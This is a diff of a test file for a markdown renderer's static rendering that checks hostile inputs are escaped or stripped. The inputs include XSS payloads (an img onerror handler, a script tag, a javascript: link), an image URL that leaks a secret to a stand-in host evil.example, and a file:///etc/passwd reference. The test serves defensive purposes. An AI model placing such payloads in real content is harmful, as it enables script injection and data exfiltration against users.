@@ -16,11 +16,11 @@ describe('renderer components (static render)', () => {
         text={
           'Hi <img src=x onerror=alert(1)> <script>alert(2)</script>\n\n' +
           '[click](javascript:alert(3)) [ok](https://example.com)\n\n' +
-          '![secret](https://evil.example/p.png?d=SECRET) ![local](file:///etc/passwd)'
+          '![secret](https://evil.example/p.png?d=SECRET) ![plain](http://evil.example/p.png) ![local](file:///etc/passwd)'
         }
       />,
     );
-    expect(html).not.toMatch(/<img|<script|href="javascript|file:\/\/\/etc/i);
+    expect(html).not.toMatch(/<img|<script|href="javascript|(?:src|href)="file:/i);
     expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
     expect(html).toContain(
       '<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow"',
